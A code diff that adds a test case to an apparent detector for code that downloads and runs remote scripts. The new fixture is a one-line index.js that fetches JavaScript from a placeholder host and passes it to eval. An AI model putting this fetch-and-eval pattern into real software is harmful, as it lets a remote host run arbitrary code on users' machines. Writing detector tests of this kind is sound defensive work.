@@ -16,6 +16,13 @@ const CHAINS =
 examine(runsDownloadedCode, {
   speaks: [
     {
+      when: 'an address without a scheme is asked by a page',
+      files: {
+        'index.js': `const xhr = new XMLHttpRequest(); xhr.open('GET', '//load.specimen.invalid/x.js', false); xhr.send(null); eval(xhr.responseText);`,
+      },
+      weight: 'proof',
+    },
+    {
       when: 'what an address of the caller answers is taken out of letters and run, of which its page says nothing',
       files: { 'README.md': CHAINS, 'index.js': LABELS },
       weight: 'strong',
